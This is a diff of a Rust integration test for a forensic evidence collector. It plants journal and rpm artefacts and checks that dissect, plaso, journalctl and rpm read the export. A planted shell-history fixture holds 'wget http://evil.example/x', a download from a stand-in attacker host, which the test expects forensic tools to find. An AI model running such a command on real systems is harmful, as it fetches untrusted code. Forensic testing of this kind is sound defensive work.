@@ -1,4 +1,5 @@
-//! Tools written by others read an export: dissect, mactime, last, dpkg, case_validate, bagit.
+//! Tools written by others read an export: dissect, plaso, mactime, last, journalctl, dpkg, rpm, case_validate, bagit; and the definitions
+//! that the project ForensicArtifacts publishes are read.
 
 #![expect(
     clippy::disallowed_methods,
@@ -10,15 +11,20 @@
 
 use std::fs;
 use std::net::TcpListener;
+use std::os::unix::net::UnixDatagram;
 use std::path::Path;
 use std::process::Command;
+use std::thread::sleep;
+use std::time::{Duration, Instant};
 
 use hozen_tests::agent::Agent;
 use hozen_tests::helper::Helper;
 use hozen_tests::host::{Mounts, is_root, skipped};
 use hozen_tests::python;
+use nix::sys::signal::{Signal, kill};
 use nix::sys::stat::{UtimensatFlags, utimensat};
 use nix::sys::time::TimeSpec;
+use nix::unistd::Pid;
 use serde_json::Value;
 
 /// What a program prints; it must succeed.
@@ -58,6 +64,68 @@ fn login() -> Vec<u8> {
     record
 }
 
+/// A journal that systemd's own daemon wrote below a `/run` of the test's own; whether it could be had.
+fn plant_journal(test: &str, mounts: &mut Mounts) -> bool {
+    let programs = ["/usr/lib/systemd/systemd-journald", "/lib/systemd/systemd-journald"].map(Path::new);
+    let program = programs.into_iter().find(|path| path.is_file());
+    let Some(program) = program.filter(|_| Path::new("/etc/machine-id").is_file()) else {
+        skipped(test, "systemd-journald, and a machine id");
+        return false;
+    };
+    mounts.tmpfs(Path::new("/run"), "64m");
+    fs::create_dir_all("/run/systemd/journald.conf.d").unwrap();
+    fs::create_dir_all("/run/systemd/journal").unwrap();
+    // Nothing of this host: neither its kernel's log nor its audit.
+    fs::write("/run/systemd/journald.conf.d/x.conf", "[Journal]\nStorage=volatile\nAudit=no\nReadKMsg=no\n").unwrap();
+    let mut daemon = Command::new(program).spawn().unwrap();
+    let line = b"MESSAGE=planted in the journal\nSYSLOG_IDENTIFIER=planter\n";
+    wait_until("the journal took the line", || {
+        let sent = UnixDatagram::unbound().unwrap().send_to(line, "/run/systemd/journal/socket").is_ok();
+        sent && journal_of(Path::new("/run/log/journal")).contains("planted in the journal")
+    });
+    kill(Pid::from_raw(i32::try_from(daemon.id()).unwrap()), Signal::SIGTERM).unwrap();
+    daemon.wait().unwrap();
+    true
+}
+
+fn wait_until(what: &str, is: impl Fn() -> bool) {
+    let began = Instant::now();
+    while !is() {
+        assert!(began.elapsed() < Duration::from_secs(60), "not: {what}");
+        sleep(Duration::from_millis(100));
+    }
+}
+
+/// What `journalctl` prints of the journals in a folder and its folders.
+fn journal_of(folder: &Path) -> String {
+    let machine = fs::read_to_string("/etc/machine-id").unwrap();
+    let output =
+        Command::new("journalctl").arg("-D").arg(folder.join(machine.trim())).args(["--no-pager", "-o", "short-iso"]).output();
+    output.map(|output| String::from_utf8_lossy(&output.stdout).into_owned()).unwrap_or_default()
+}
+
+/// A database of rpm with one package; whether it could be had.
+fn plant_rpm(test: &str, folder: &Path, mounts: &mut Mounts) -> bool {
+    let database = Path::new("/var/lib/rpm");
+    if Command::new("rpmbuild").arg("--version").output().is_err() || !database.is_dir() {
+        skipped(test, "rpm and rpmbuild");
+        return false;
+    }
+    mounts.tmpfs(database, "16m");
+    let (spec, top) = (folder.join("planted.spec"), folder.join("rpm"));
+    let text = "Name: planted\nVersion: 1\nRelease: 1\nSummary: x\nLicense: MIT\nBuildArch: noarch\n%description\nx\n%files\n";
+    fs::write(&spec, text).unwrap();
+    let define = |name: &str| format!("{name} {}", top.display());
+    said(
+        Command::new("rpmbuild")
+            .args(["-bb", "--quiet", "--define", &define("_topdir"), "--define", &define("_rpmdir")])
+            .arg(spec),
+    );
+    let package = top.join("noarch/planted-1-1.noarch.rpm");
+    said(Command::new("rpm").args(["--dbpath", "/var/lib/rpm", "-i", "--justdb", "--nodeps"]).arg(package));
+    true
+}
+
 #[test]
 fn tools_of_others_read_an_export() {
     let test = "tools_of_others_read_an_export";
@@ -69,6 +137,7 @@ fn tools_of_others_read_an_export() {
     let (to, out) = (folder.path().join("evidence"), folder.path().join("out"));
     let mut mounts = Mounts::own();
     plant(folder.path(), &mut mounts);
+    let (has_journal, has_rpm) = (plant_journal(test, &mut mounts), plant_rpm(test, folder.path(), &mut mounts));
     let plain = Helper::start("odd", ["plain"]);
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
     let evidence = Agent::find().collect(&to, &["--memory", "off", "--skip", "files"]);
@@ -77,9 +146,18 @@ fn tools_of_others_read_an_export() {
     let finished = Agent::find().run(arguments);
     finished.assert_code(0);
     let (pid, port) = (plain.number("pid"), listener.local_addr().unwrap().port());
-    dissect(&python, &out.join("root.tar"), pid, Some(port));
-    // In the tree the content of a deleted file stands where its descriptor, a link, was: dissect's sockets want links only.
-    dissect(&python, &out.join("[root]"), pid, None);
+    dissect(&python, &out.join("root.tar"), pid, port);
+    dissect(&python, &out.join("[root]"), pid, port);
+    plaso(&python, &out, has_journal);
+    if has_journal {
+        let journal = journal_of(&out.join("[root]/run/log/journal"));
+        assert!(journal.contains("planter") && journal.contains("planted in the journal"), "{journal}");
+    }
+    if has_rpm {
+        let root = out.join("[root]");
+        let packages = said(Command::new("rpm").arg("--root").arg(root).args(["--dbpath", "/var/lib/rpm", "-qa"]));
+        assert_eq!(packages, "planted-1-1.noarch\n");
+    }
     mactime(test, &out.join("bodyfile.txt"));
     let logins = said(Command::new("last").arg("-f").arg(out.join("[root]/var/log/wtmp")));
     assert!(logins.contains("ann") && logins.contains("pts/7") && logins.contains("evil"), "{logins}");
@@ -109,7 +187,7 @@ fn the_published_definitions_are_read() {
 }
 
 /// Every function that dissect.target has for what was collected of a running system.
-fn dissect(python: &Path, target: &Path, pid: i64, port: Option<u16>) {
+fn dissect(python: &Path, target: &Path, pid: i64, port: u16) {
     let ask = |function: &str| {
         let mut command = Command::new(python);
         said(command.args(["-m", "dissect.target.tools.query", "-q", "-s", "-f", function]).arg(target))
@@ -127,9 +205,45 @@ fn dissect(python: &Path, target: &Path, pid: i64, port: Option<u16>) {
     has("cmdline", &[format!("pid={pid} "), "plain".to_owned()]);
     has("environ", &[format!("pid={pid} "), "PATH".to_owned()]);
     has("commandhistory", &["wget http://evil.example/x".to_owned()]);
-    if let Some(port) = port {
-        has("netstat", &[format!("127.0.0.1:{port}"), "LISTEN".to_owned()]);
-        has("sockets", &[format!("local_port={port} ")]);
+    has("netstat", &[format!("127.0.0.1:{port}"), "LISTEN".to_owned()]);
+    has("sockets", &[format!("local_port={port} ")]);
+}
+
+/// plaso's parsers of bodyfiles, histories and journals, over what was exported for them.
+fn plaso(python: &Path, out: &Path, has_journal: bool) {
+    let (source, events) = (out.with_extension("plaso"), out.with_extension("jsonl"));
+    fs::create_dir(&source).unwrap();
+    fs::copy(out.join("bodyfile.txt"), source.join("bodyfile.txt")).unwrap();
+    fs::copy(out.join("[root]/home/ann/.bash_history"), source.join(".bash_history")).unwrap();
+    if has_journal {
+        let machine = fs::read_to_string("/etc/machine-id").unwrap();
+        let journal = Path::new("[root]/run/log/journal").join(machine.trim()).join("system.journal");
+        fs::copy(out.join(journal), source.join("system.journal")).unwrap();
+    }
+    let storage = source.join("events.plaso");
+    let quiet = ["-q", "-u", "--status_view", "none", "--logfile", "/dev/null"];
+    let parsers = ["--single_process", "--hashers", "none", "--parsers", "bodyfile,text/bash_history,systemd_journal"];
+    let run = |program: &str| {
+        let mut command = Command::new(python.with_file_name(program));
+        // Its settings and caches stay in the test's folder.
+        command.env("HOME", &source).current_dir(&source).args(quiet);
+        command
+    };
+    said(run("log2timeline").args(parsers).arg("--storage-file").arg(&storage).arg(&source));
+    said(run("psort").args(["-o", "json_line", "-w"]).arg(&events).arg(&storage));
+    let events = fs::read_to_string(events).unwrap();
+    let events: Vec<Value> = events.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
+    let has = |kind: &str, what: &dyn Fn(&Value) -> bool| {
+        let found = events.iter().filter(|event| event["data_type"] == kind).any(what);
+        assert!(found, "no such event of {kind} among {} events", events.len());
+    };
+    let named =
+        |name: &'static str| move |event: &Value| event["filename"] == name && event["timestamp"] == 1_000_000_000_000_000_i64;
+    // It leaves the sign for `|` in the name as mactime wants it written.
+    has("fs:bodyfile:entry", &named("/home/ann/.ssh/a%7Cb\n"));
+    has("bash:history:entry", &|event| event["command"].as_str().is_some_and(|text| text.contains("wget http://evil.example/x")));
+    if has_journal {
+        has("systemd:journal", &|event| event["message_body"] == "planted in the journal");
     }
 }
 
